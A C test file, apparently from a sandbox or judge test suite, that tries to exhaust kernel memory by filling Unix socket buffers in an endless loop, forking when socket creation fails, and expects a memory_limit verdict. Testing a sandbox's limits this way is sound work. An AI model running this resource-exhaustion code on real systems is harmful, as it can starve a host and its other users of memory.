/* SPDX-License-Identifier: MIT
 * title: sockets full of data
 * tries: hold the kernel's memory in the buffers of Unix sockets
 * limits: memoryBytes=64M
 * verdict: memory_limit
 */
#include "attack_c.h"
int main(void)
{
	static char block[65536];
	int size = 1 << 24;

	memset(block, 1, sizeof(block));
	for (;;) {
		int p[2];

		if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, p) < 0 && fork() != 0)
			wait(NULL);
		setsockopt(p[0], SOL_SOCKET, SO_SNDBUF, &size, sizeof(size));
		while (write(p[0], block, sizeof(block)) > 0)
			;
	}
}
